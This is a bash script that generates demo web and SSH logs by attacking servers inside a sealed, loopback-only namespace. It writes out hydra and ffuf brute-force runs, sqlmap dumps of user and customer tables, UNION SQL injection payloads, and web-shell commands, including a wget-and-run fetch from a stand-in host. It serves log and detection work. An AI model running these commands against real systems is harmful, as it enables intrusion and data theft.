#!/bin/bash
# Makes the logs in demo-logs/ from scratch: real servers, real tools, one sealed namespace that has only a loopback
# interface, so nothing can leave it. Takes about 5 minutes. usage (Debian 12, as root): make.sh OUT_DIR
# needs: nginx-light openssh-server fail2ban rsyslog apache2-utils curl nodejs python3 ffuf nmap hydra sqlmap wapiti
#        netcat-openbsd iproute2 util-linux openssl; KEEP=1 also keeps the untouched logs and what each tool printed
set -u
here=$(cd "$(dirname "$0")" && pwd)
if [ "${1:-}" != inside ]; then
  out=$(mkdir -p "$1" && cd "$1" && pwd)
  work=$(mktemp -d)
  unshare --net --mount --uts --pid --fork --mount-proc bash "$here/make.sh" inside "$out" "$work"
  status=$?; rmdir "$work"; exit $status
fi
work=$3
say() { echo "$(date +%T) $*"; }

## A small machine of its own: host web1, empty /run, /srv, /var/log, /var/www, /home; its own /dev and accounts
hostname web1
ip link set lo up
mount -t tmpfs none "$work" && cp /etc/{passwd,shadow,group} "$here"/* "$work" && mkdir "$work/out" && mount --bind "$2" "$work/out"
for dir in /run /srv /var/log /var/www /home; do mount -t tmpfs none $dir; done
mkdir -p "$work/dev/pts" && touch "$work"/dev/{null,zero,full,random,urandom,tty}
for f in null zero full random urandom tty; do mount --bind /dev/$f "$work/dev/$f"; done
mount --rbind /dev/pts "$work/dev/pts" && ln -s pts/ptmx "$work/dev/ptmx" && ln -s /proc/self/fd "$work/dev/fd" && mount --rbind "$work/dev" /dev
echo 'deploy:x:1501:1501::/home/deploy:/bin/sh' >> "$work/passwd"
echo "deploy:$(openssl passwd -6 -salt demo deploy2024):19800:0:99999:7:::" >> "$work/shadow"
echo 'deploy:x:1501:' >> "$work/group"
for f in passwd shadow group; do mount --bind "$work/$f" /etc/$f; done
mkdir -p /run/sshd /run/fail2ban /run/as /srv/shop /srv/f2b /var/log/nginx /var/www/shop/assets /home/deploy && chown 1501:1501 /home/deploy
cp "$work/app.py" /srv/shop && cd /srv

## The site: static files by nginx, the rest by the app
for page in index about; do
  echo "<html><title>$page</title><link rel=stylesheet href=/assets/site.css><a href=/products>상품</a> <a href='/item?id=7'>offer</a> <a href='/search?q=book'>book</a></html>" > /var/www/shop/$page.html
done
printf 'User-agent: *\nDisallow: /admin/\n' > /var/www/shop/robots.txt
for f in site.css:7300 shop.js:18200 logo.svg:2100 photo-1.jpg:48211 photo-2.jpg:51977 photo-3.jpg:39120 photo-4.jpg:60433; do
  head -c "${f#*:}" /dev/zero > "/var/www/shop/assets/${f%:*}"
done
htpasswd -bc /srv/htpasswd admin letmein-2025 2>/dev/null
cat > /srv/nginx.conf <<'CONF'
user www-data;
worker_processes 1;
pid /run/nginx.pid;
error_log /var/log/nginx/error.log;
events { worker_connections 1024; }
http {
  include /etc/nginx/mime.types;
  limit_req_zone $binary_remote_addr zone=search:1m rate=30r/s;
  limit_req_status 429;
  log_format json escape=json '{"time_iso8601":"$time_iso8601","remote_addr":"$remote_addr","request_method":"$request_method","request_uri":"$request_uri",'
    '"server_protocol":"$server_protocol","status":$status,"body_bytes_sent":$body_bytes_sent,"http_referer":"$http_referer","http_user_agent":"$http_user_agent",'
    '"request_time":$request_time,"host":"$host"}';
  access_log /var/log/nginx/access.log combined;
  access_log /var/log/nginx/access.json.log json;
  server {
    listen 80 default_server;
    server_name shop.example;
    root /var/www/shop;
    if_modified_since before;
    proxy_set_header X-Real-IP $remote_addr;
    location = / { try_files /index.html =404; }
    location = /search { limit_req zone=search burst=90 nodelay; proxy_pass http://127.0.0.1:8080; }
    location ~ ^/(assets/|about\.html|robots\.txt|favicon\.ico|apple-touch-icon\.png) { }
    location = /old-page.html { return 301 /about.html; }
    location = /admin { return 301 /admin/; }
    location /admin/ { auth_basic "admin"; auth_basic_user_file /srv/htpasswd; proxy_pass http://127.0.0.1:8080; }
    location ~ /\.(git|env|ht) { deny all; }
    location / { proxy_pass http://127.0.0.1:8080; }
  }
}
CONF
printf '%s\n' 'HostKey /srv/host_key' 'UsePAM yes' 'PermitRootLogin prohibit-password' 'MaxAuthTries 4' > /srv/sshd_config
printf '%s\n' 'module(load="imuxsock")' 'auth,authpriv.* action(type="omfile" file="/var/log/auth.log" template="RSYSLOG_TraditionalFileFormat")' > /srv/rsyslog.conf
cp -r /etc/fail2ban/. /srv/f2b && rm -f /srv/f2b/jail.d/*
printf '%s\n' '[DEFAULT]' 'backend = polling' 'ignoreself = false' 'findtime = 60' 'bantime = 75' 'maxretry = 5' 'banaction = dummy' 'action = dummy' > /srv/f2b/jail.local
for jail in sshd:auth.log nginx-http-auth:nginx/error.log nginx-limit-req:nginx/error.log shop-login:nginx/access.log; do
  printf '[%s]\nenabled = true\nlogpath = /var/log/%s\n' "${jail%:*}" "${jail#*:}" >> /srv/f2b/jail.local
done
echo '[Definition]
failregex = ^<HOST> \S+ \S+ \[\] "POST /(?:login|wp-login\.php)\S* HTTP/[^"]*" 401' > /srv/f2b/filter.d/shop-login.conf
printf '[Definition]\ndbfile = None\n' > /srv/f2b/fail2ban.local
ssh-keygen -q -t ed25519 -N '' -f /srv/deploy_key && mkdir /home/deploy/.ssh && cp /srv/deploy_key.pub /home/deploy/.ssh/authorized_keys
chown -R 1501:1501 /home/deploy && printf '#!/bin/sh\necho deploy2024\n' > /srv/askpass && chmod 755 /srv/askpass
touch /var/log/auth.log /var/log/fail2ban.log
ssh-keygen -q -t ed25519 -N '' -f /srv/host_key
rsyslogd -f /srv/rsyslog.conf -i /run/rsyslogd.pid
/usr/bin/python3 /srv/shop/app.py /var/log/app.log & sleep 1
nginx -c /srv/nginx.conf && /usr/sbin/sshd -f /srv/sshd_config
fail2ban-server -b -c /srv/f2b -s /run/fail2ban/f2b.sock -p /run/fail2ban/f2b.pid --logtarget /var/log/fail2ban.log start > /dev/null
sleep 2

## as 127.a.b.c COMMAND: in COMMAND, shop.example is 127.(a+100).b.c, and the kernel's route to that address
## carries the source address 127.a.b.c. So a tool that cannot choose its own source still gets one.
as() {
  local from=$1 to; shift
  to=$(echo "$from" | awk -F. '{print $1"."$2+100"."$3"."$4}')
  ip route replace local "$to" dev lo table local src "$from"
  printf '127.0.0.1 localhost web1\n%s shop.example\n' "$to" > "/run/as/$from"
  unshare --mount sh -c 'mount --bind "$0" /etc/hosts && exec "$@"' "/run/as/$from" env HOME="$work" "$@" > "/run/as/$(date +%s%N).out" 2>&1
}
site=http://shop.example
firefox='Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0'
web() { local from=$1; shift; as "$from" curl -s -o /dev/null -A "$firefox" "$@"; }
login() { local from=$1; shift; as "$from" ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$@" deploy@shop.example true; }

## Word lists
echo admin backup config db .env .git/HEAD login old phpinfo phpmyadmin server-status shell test tmp upload uploads wp-admin wp-login xmlrpc \
    api console dashboard data debug dev dump error export files home images include index info install js lib logs mail manager media new panel \
    private readme root scripts secret setup site sql src staging stats status storage svn system users var vendor web webmail work www | tr ' ' '\n' > /srv/paths
for word in admin password letmein qwerty welcome summer winter shop dragon monkey root test; do
  for tail in '' 1 123 1234 2022 2023 2024 2025 '!' '@1' 01 99 007; do echo "$word$tail"; done
done > /srv/passwords
sed '10q' /srv/passwords > /srv/few && printf 'hunter2\ndeploy2024\n' >> /srv/few
printf '%s\n' root admin oracle test ubuntu deploy > /srv/users
sed '110q' /srv/passwords > /srv/web-passwords && echo sunshine2024 >> /srv/web-passwords

say ordinary
node "$work/ordinary.mjs" 7 & sleep 4
(while sleep 35; do login 127.3.0.50 -i /srv/deploy_key; done) & # somebody's cron job
say first probes
for path in /.env /.git/config /server-status /backup.zip; do web 127.66.0.11 "$site$path"; sleep 0.5; done
for q in '검색?q=한국어' '상품/녹차-세트'; do as 127.1.0.77 curl -s "$site/$q"; done # raw UTF-8 paths by curl
sleep 3
say recon
as 127.66.0.11 nc -zv shop.example 22; echo 'GET / HTTP/1.0' | as 127.66.0.11 timeout 2 nc shop.example 22
as 127.66.0.11 nmap -n -Pn -sV -p 22,80 --script ssh2-enum-algos,http-headers,http-title,http-methods shop.example
as 127.66.0.11 nmap -n -Pn -p 80 --script http-enum --script-args http-enum.category=attacks shop.example
as 127.66.0.42 hydra -I -L /srv/users -P /srv/few -t 4 ssh://shop.example & ssh_attack=$!
as 127.66.6.7 hydra -I -l root -P /srv/web-passwords -t 2 ssh://shop.example & ssh_slow=$!
as 127.66.0.23 ffuf -s -w /srv/paths -e .php,.bak,.zip,.sql,.txt,.old,.conf,.tar.gz,.swp -t 2 -p 0.08-0.2 -H "Host: shop.example" -u "$site/FUZZ"
say brute force
(for n in $(seq 140); do # one guess after the other, as a patient script does
  web 127.66.6.9 -d "log=admin&pwd=$(sed -n "${n}p" /srv/passwords)" "$site/wp-login.php"; sleep 0.4; done) & wp=$!
as 127.66.0.57 ffuf -s -w /srv/web-passwords -t 2 -p 0.3-0.7 -X POST -d 'user=admin&pass=FUZZ' -H 'Content-Type: application/x-www-form-urlencoded' \
  -H "User-Agent: $firefox" -H "Referer: $site/login" -u "$site/login" # hydra's form module refuses a form that answers 401
as 127.66.0.58 hydra -I -l admin -P /srv/passwords -t 2 shop.example http-get /admin/
wait $wp
say wapiti
for modules in sql,exec crlf,redirect,shellshock file xss; do
  as 127.66.0.77 wapiti -u $site/ -m $modules -S normal --flush-session --max-scan-time 15 --max-attack-time 20 --max-links-per-page 20 -d 3 -t 5 -v 0 \
    -f txt -o /srv/wapiti.txt
  sleep 5
done
say sqlmap
sqlmap() { as 127.66.0.99 sqlmap --batch --delay 0.1 --disable-coloring --risk 1 "$@"; }
sqlmap -u "$site/search?q=book" -p q --technique BEU --level 1 # this one has no hole
sqlmap -u "$site/item?id=7" -p id --technique BE --level 2
sqlmap -u "$site/item?id=7" -p id --technique B --tables
sqlmap -u "$site/item?id=7" -p id --technique B --dump -T users -C login,password
sqlmap -u "$site/item?id=7" -p id --technique U --tables
sqlmap -u "$site/item?id=7" -p id --technique U --dump -T customers
web 127.66.0.99 -G "$site/item" --data-urlencode "id=-1 UNION SELECT id,login,password,role FROM users-- -"
web 127.66.0.99 -G "$site/item" --data-urlencode "id=-1 UNION ALL SELECT id,name,email,phone||' '||address FROM customers-- -"
sleep 3
say web shell
web 127.66.0.99 -d 'user=admin&pass=sunshine2024' "$site/login"; sleep 1
web 127.66.0.99 -u admin:letmein-2025 "$site/admin/"; sleep 1
echo '<?php /* placeholder, not a shell */ ?>' > /srv/shell.php
web 127.66.0.99 -e "$site/upload" -F 'f=@/srv/shell.php;filename=shell.php' "$site/upload"; sleep 1
for cmd in id whoami 'uname -a' pwd 'ls -la' 'cat /etc/passwd' 'wget http://203.0.113.99/x.sh -O /tmp/x.sh' 'sh /tmp/x.sh'; do
  web 127.66.0.99 -G "$site/uploads/shell.php" --data-urlencode "cmd=$cmd"; sleep 1.2
done
sleep 4
say ssh with the guessed password
SSH_ASKPASS=/srv/askpass SSH_ASKPASS_REQUIRE=force login 127.66.0.42 -o PubkeyAuthentication=no
say flood
flood() { for _ in $(seq 22); do as "127.66.0.$((200 + $1))" ab -q -n 50 -c 4 "$site/search?q=lamp$1"; sleep 1; done; }
for n in 1 2 3 4; do flood $n & floods="${floods:-} $!"; done
wait $floods
sleep 12
kill $ssh_attack $ssh_slow 2>/dev/null
sleep 1
say publish
mkdir "$work/raw" && cp /var/log/nginx/{access,access.json,error}.log /var/log/{auth,fail2ban,app}.log "$work/raw"
[ -z "${KEEP:-}" ] || cp -r "$work/raw" /run/as "$work/out" # also the untouched logs and what each tool printed
/usr/bin/python3 "$work/rewrite.py" "$work/raw" "$work/out" # every process in here ends with this script
